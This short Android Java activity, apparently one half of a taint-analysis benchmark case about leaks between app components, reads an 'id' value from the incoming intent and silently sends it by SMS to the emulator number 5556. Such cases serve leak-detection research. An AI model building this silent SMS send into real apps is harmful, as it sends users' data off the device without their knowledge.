package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** The second half. */
public class ByActionNext extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        SmsManager.getDefault().sendTextMessage("5556", null, getIntent().getExtras().getString("id"), null, null);
    }
}
